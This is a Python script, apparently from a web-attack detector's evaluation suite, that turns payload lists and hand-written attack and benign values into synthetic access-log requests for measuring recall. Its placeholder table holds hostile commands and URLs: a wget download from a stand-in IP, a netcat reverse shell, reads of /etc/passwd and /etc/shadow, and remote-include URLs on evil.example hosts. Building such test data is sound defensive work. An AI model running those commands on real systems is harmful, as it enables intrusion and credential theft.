#!/usr/bin/python3
"""Turn the development corpus into requests, the way attack tools send them.

Writes, into OUTDIR:
  requests.log   one access-log line per request, LogFormat
                 '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %{UNIQUE_ID}e'
                 (the last field is the request id, which comes back in every
                 record as request_id). Reusable: a live-module or ModSecurity
                 comparison replays the same request lines and User-Agents.
  requests.tsv   the index: id, set, category, mode, source (file:line),
                 target, user agent, payload (backslash-escaped).
  excluded.tsv   payload-list lines the reviewed lists set apart
                 (test/eval/not-attacks.tsv, test/eval/probes.tsv), with the
                 reason.

Sets: "attack" (payload lists, category from the list's name), "httpparams"
(the labelled attack rows of httpparams_train.csv), "benign-params" (its norm
rows as parameter values), "benign-ua" (popular User-Agents on ordinary
pages) and "nearmiss" (test/eval/benign-nearmiss.txt, our own near-miss
values, reported apart); "written" (test/eval/written/CLASS.txt, attack
values written for developing the detectors, category from CLASS) and
"written-benign" (test/eval/written/benign-CLASS.txt, benign look-alikes
written alike), both apart from the issue's sets and rates. The NASA log is
read as it is by the caller.
Lines the reviewed lists set apart are still sent, after all the others (the
ids of the others do not move), in sets of their own: "excluded" and
"httpparams-excluded" (test/eval/not-attacks.tsv), "probe" and
"httpparams-probe" (test/eval/probes.tsv, weak signals by design), so that
recall can also be counted over every line.

Modes: "enc" (payload URL-encoded into ?id=), "raw" (payload as it is, when
it is a legal request-target byte string), "path" (payload URL-encoded as a
path segment, /api/items/PAYLOAD; not for dotdotpwn's generated list),
"target" (the line is itself a request-target, as in fuzzdb's rfi list).
"""
import csv
import os
import sys
import urllib.parse

CATS = [
    ("patt/SQL_Injection__", "sqli"), ("fuzzdb/sql-injection__", "sqli"),
    ("patt/XSS_Injection__", "xss"), ("fuzzdb/xss__", "xss"),
    ("patt/Directory_Traversal__", "lfi"), ("fuzzdb/path-traversal__", "lfi"),
    ("patt/File_Inclusion__", "lfi"), ("fuzzdb/lfi__", "lfi"),
    ("fuzzdb/rfi__", "rfi"),
    ("patt/Command_Injection__", "rce"), ("fuzzdb/os-cmd-execution__", "rce"),
]

# Placeholders in the lists, filled in rotation with realistic values.
FILL = {
    "{cmd}": ["id", "cat /etc/passwd", "uname -a", "whoami",
              "ping -c 3 127.0.0.1", "wget http://203.0.113.5/x.sh",
              "nc -e /bin/sh 203.0.113.5 4444", "ls -la /"],
    "{FILE}": ["etc/passwd", "windows/win.ini", "boot.ini", "etc/shadow",
               "proc/self/environ", "etc/hosts", "etc/issue"],
    "XXpathXX": ["http://203.0.113.9/shell.txt?", "http://evil.example.com/c99.txt?",
                 "https://attacker.example.net/r57.php", "ftp://198.51.100.3/pub/inc.txt",
                 "http://evil.example.org/id.txt?", "http://198.51.100.20/x?",
                 # no trailing '?', no payload extension, a host name: only
                 # the parameter's name can tell this one from a redirect
                 "http://evil.example.com/inc/config"],
}

BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")


def category_of(rel):
    for prefix, cat in CATS:
        if rel.startswith(prefix):
            return cat
    return None


def fill(line, counter):
    for ph, values in FILL.items():
        while ph in line:
            line = line.replace(ph, values[counter[ph] % len(values)], 1)
            counter[ph] += 1
    return line


def payload_lines(path, rel):
    """(line number, payload) for every payload of one list file."""
    with open(path, "rb") as f:
        data = f.read().decode("latin-1")
    lines = data.split("\n")
    doc = rel.endswith(".doc.txt")
    for n, line in enumerate(lines, 1):
        line = line.rstrip("\r")
        if doc:
            # A document: the payloads are its "Exploit String:" lines.
            if not line.startswith("Exploit String:"):
                continue
            line = line[len("Exploit String:"):].strip()
        if line.strip() == "":
            continue
        yield n, line


def raw_ok(s):
    # Printable, no space, and nothing the request line or the log would
    # change: '#' ends the target, '&' would split the value into two
    # parameters, '"' and '\\' are escaped in the log.
    return all(0x21 <= ord(c) <= 0x7e and c not in '"\\#&' for c in s)


def enc(s):
    return urllib.parse.quote(s.encode("latin-1"), safe="")


def esc(s):
    return s.encode("latin-1").decode("latin-1").encode("unicode_escape").decode("ascii").replace("\t", "\\t")


def load_excluded(path):
    ex = {}
    if not os.path.exists(path):
        return ex
    with open(path, encoding="latin-1") as f:
        for n, line in enumerate(f, 1):
            line = line.rstrip("\n")
            if not line or line.startswith("#"):
                continue
            parts = line.split("\t")
            if len(parts) != 3 or not parts[2].strip():
                sys.exit("%s:%d: want FILE<TAB>PAYLOAD<TAB>REASON" % (path, n))
            payload = parts[1].encode("latin-1").decode("unicode_escape")
            ex[(parts[0], payload)] = parts[2]
    return ex


def payload_rows(st, cat, rel, src, p, q):
    """The requests of one payload line (q: placeholders filled)."""
    if cat == "rfi" and q.startswith("/"):
        t = "".join(c if raw_ok(c) or c in "#" else enc(c) for c in q)
        return [(st, cat, "target", src, t, BROWSER_UA, p)]
    out = [(st, cat, "enc", src, "/index.php?id=" + enc(q), BROWSER_UA, p)]
    # The same payload as a path segment (REST-style URLs), except for
    # dotdotpwn's 21,000 generated traversals.
    if "dotdotpwn" not in rel:
        out.append((st, cat, "path", src, "/api/items/" + enc(q), BROWSER_UA, p))
    if raw_ok(q):
        out.append((st, cat, "raw", src, "/index.php?id=" + q, BROWSER_UA, p))
    return out


# test/eval/written/CLASS.txt: the category of each CLASS
WRITTEN_CATS = {"sqli": "sqli", "xss": "xss", "shell": "rce", "cmd": "rce",
                "cmdi": "rce", "rce": "rce", "lfi": "lfi", "rfi": "rfi",
                "scanner": "scanner", "probe": "probe", "xxe": "lfi",
                "crlf": "protocol", "nosqli": "sqli", "ldapi": "sqli",
                "xpathi": "sqli", "shell-dev": "rce", "shell-holdout": "rce",
                "shell2": "rce",
                # benign only: look-alikes of the encodings normalisation
                # decodes (JavaScript escapes, base64)
                "encoded": "none"}
# Classes whose lines are whole requests, not parameter values: a
# request-target as sent ("/path?query"), or "User-Agent: VALUE" on an
# ordinary page.
WRITTEN_REQUESTS = ("scanner", "probe", "crlf")
# A CLASS whose attack file holds several categories, a "# [CATEGORY
# CLASS]" section each (written/inject.txt: template, NoSQL, LDAP, XPath,
# CRLF and mail-header injection, categories rce, sqli and protocol): its
# benign look-alikes join the written benign sets here, its attacks are
# measured per section by scripts/eval/inject.py.
WRITTEN_SECTIONS = {"inject"}
# Sectioned classes whose attacks are sent here too, each value with its
# section's category (written/code.txt: Java, Node.js and PHP code, rce;
# session fixation and request splitting, protocol; phar://, lfi). A line
# of theirs that starts with '/' is a request-target, sent as it is.
WRITTEN_SECTIONS_SENT = {"code"}


def written_request(v):
    """(mode, target, User-Agent) of a line of a WRITTEN_REQUESTS class."""
    if v.lower().startswith("user-agent:"):
        return "ua", "/index.html", v.split(":", 1)[1].strip()
    if not v.startswith("/") or any(c in v for c in " \t"):
        sys.exit("gen_requests: not a request-target or User-Agent: %r" % v)
    return "target", v, BROWSER_UA


def written_rows(d):
    """The values written for developing the detectors, each as ?q= of an
    ordinary page (attacks as ?id=), or as the request itself for the
    WRITTEN_REQUESTS classes, in file name order."""
    out = []
    if not os.path.isdir(d):
        return out
    for name in sorted(os.listdir(d)):
        if not name.endswith(".txt"):
            continue
        cls = name[:-4]
        benign = cls.startswith("benign-")
        if benign:
            cls = cls[len("benign-"):]
        if cls in WRITTEN_SECTIONS and not benign:
            continue
        sectioned = cls in WRITTEN_SECTIONS or cls in WRITTEN_SECTIONS_SENT
        # A class may carry a suffix ("xss-dev", "xss-holdout"): the
        # category is its stem's; benign rows have none.
        cat = "none" if benign else WRITTEN_CATS.get(
            cls, WRITTEN_CATS.get(cls.split("-")[0],
                                  "none" if sectioned else None))
        if cat is None:
            print("gen_requests: %s: no category for class %r, skipped"
                  % (name, cls), file=sys.stderr)
            continue
        with open(os.path.join(d, name), encoding="latin-1") as f:
            for n, v in enumerate(f, 1):
                v = v.rstrip("\r\n")
                if (sectioned and not benign and v.startswith("# [")
                        and v.endswith("]")):
                    cat = v[3:-1].split()[0]
                if not v or v.startswith("#"):
                    continue
                src = "written/%s:%d" % (name, n)
                if sectioned and not benign and cat == "none":
                    sys.exit("gen_requests: %s:%d: a value before any section"
                             % (name, n))
                if cls in WRITTEN_SECTIONS_SENT and not benign \
                        and v.startswith("/"):
                    out.append(("written", cat, "target", src, v, BROWSER_UA, v))
                elif cls in WRITTEN_REQUESTS:
                    mode, target, ua = written_request(v)
                    out.append(("written-benign" if benign else "written",
                                "none" if benign else cat, mode, src,
                                target, ua, v))
                elif benign:
                    out.append(("written-benign", "none", "enc", src,
                                "/search.php?q=" + enc(v), BROWSER_UA, v))
                else:
                    out.append(("written", cat, "enc", src,
                                "/index.php?id=" + enc(v), BROWSER_UA, v))
    return out


def main():
    corpus, exfile, outdir = sys.argv[1], sys.argv[2], sys.argv[3]
    os.makedirs(outdir, exist_ok=True)
    excluded = load_excluded(exfile)
    probes = load_excluded(os.path.join(os.path.dirname(exfile), "probes.tsv"))
    both = set(excluded) & set(probes)
    if both:
        sys.exit("gen_requests: in both not-attacks.tsv and probes.tsv: %r" % sorted(both)[:5])
    excluded.update(probes)
    used = set()
    counter = {k: 0 for k in FILL}
    # placeholders of the set-apart lines are filled from a counter of
    # their own: the other requests stay exactly what they were
    excounter = {k: 0 for k in FILL}
    rows = []
    exrows = []
    apart = []
    pdir = os.path.join(corpus, "payloads")
    for sub in ("patt", "fuzzdb"):
        for name in sorted(os.listdir(os.path.join(pdir, sub))):
            rel = sub + "/" + name
            cat = category_of(rel)
            if cat is None:
                continue
            for n, p in payload_lines(os.path.join(pdir, rel), rel):
                key = None
                if (rel, "*") in excluded:
                    key = (rel, "*")
                elif (rel, p) in excluded:
                    key = (rel, p)
                src = "%s:%d" % (rel, n)
                if key:
                    used.add(key)
                    exrows.append((rel, n, p, excluded[key]))
                    st = "probe" if key in probes else "excluded"
                    apart += payload_rows(st, cat, rel, src, p, fill(p, excounter))
                    continue
                rows += payload_rows("attack", cat, rel, src, p, fill(p, counter))
    hp = {"sqli": "sqli", "xss": "xss", "path-traversal": "lfi", "cmdi": "rce"}
    with open(os.path.join(pdir, "httpparams_train.csv"), encoding="latin-1", newline="") as f:
        for n, r in enumerate(csv.DictReader(f), 2):
            src = "httpparams_train.csv:%d" % n
            v = r["payload"]
            if r["attack_type"] == "norm":
                rows.append(("benign-params", "none", "enc", src, "/search.php?q=" + enc(v), BROWSER_UA, v))
            elif r["attack_type"] in hp:
                key = ("httpparams_train.csv", v)
                if key in excluded:
                    used.add(key)
                    exrows.append(("httpparams_train.csv", n, v, excluded[key]))
                    st = "httpparams-probe" if key in probes else "httpparams-excluded"
                    q = fill(v.replace("{file}", "{FILE}"), excounter)
                    apart.append((st, hp[r["attack_type"]], "enc", src, "/index.php?id=" + enc(q), BROWSER_UA, v))
                    continue
                # Most path-traversal rows are templates ending in "{file}":
                # filled like the payload lists' {FILE}.
                q = fill(v.replace("{file}", "{FILE}"), counter)
                rows.append(("httpparams", hp[r["attack_type"]], "enc", src, "/index.php?id=" + enc(q), BROWSER_UA, v))
    nearmiss = os.path.join(os.path.dirname(exfile), "benign-nearmiss.txt")
    if os.path.exists(nearmiss):
        with open(nearmiss, encoding="latin-1") as f:
            for n, v in enumerate(f, 1):
                v = v.rstrip("\r\n")
                if v and not v.startswith("#"):
                    rows.append(("nearmiss", "none", "enc", "benign-nearmiss.txt:%d" % n,
                                 "/search.php?q=" + enc(v), BROWSER_UA, v))
    for key in excluded:
        if key not in used:
            print("gen_requests: reviewed-list entry matches no payload: %s %r" % key,
                  file=sys.stderr)
    with open(os.path.join(corpus, "benign", "popular_user_agents.txt"), encoding="latin-1") as f:
        for n, ua in enumerate(f, 1):
            ua = ua.rstrip("\r\n")
            if ua.strip() and not ua.startswith("#"):
                rows.append(("benign-ua", "none", "ua", "popular_user_agents.txt:%d" % n,
                             "/index.html", ua, ua))
    rows += apart
    # last: adding a written line moves no other request's id
    rows += written_rows(os.path.join(os.path.dirname(exfile), "written"))
    with open(os.path.join(outdir, "requests.log"), "w", encoding="latin-1") as log, \
            open(os.path.join(outdir, "requests.tsv"), "w", encoding="latin-1") as idx:
        idx.write("id\tset\tcategory\tmode\tsource\ttarget\tuser_agent\tpayload\n")
        for i, (st, cat, mode, src, target, ua, p) in enumerate(rows):
            rid = "%s-%s-%s-%06d" % (st, cat, mode, i)
            ual = ua.replace("\\", "\\\\").replace('"', '\\"')
            # the request line as httpd logs it: '\\' and '"' escaped (a
            # written target may hold a backslash: \think\app, \r\n)
            tl = target.replace("\\", "\\\\").replace('"', '\\"')
            log.write('192.0.2.%d - - [27/Nov/2026:00:00:00 +0000] "GET %s HTTP/1.1" 200 512 "-" "%s" %s\n'
                      % (i % 250 + 1, tl, ual, rid))
            idx.write("\t".join([rid, st, cat, mode, src, target, esc(ua), esc(p)]) + "\n")
    with open(os.path.join(outdir, "excluded.tsv"), "w", encoding="latin-1") as f:
        for rel, n, p, why in exrows:
            f.write("%s:%d\t%s\t%s\n" % (rel, n, esc(p), why))
    print("gen_requests: %d requests, %d payload lines set apart by review "
          "(%d requests, recall counted with and without them)"
          % (len(rows), len(exrows), len(apart)), file=sys.stderr)


if __name__ == "__main__":
    main()
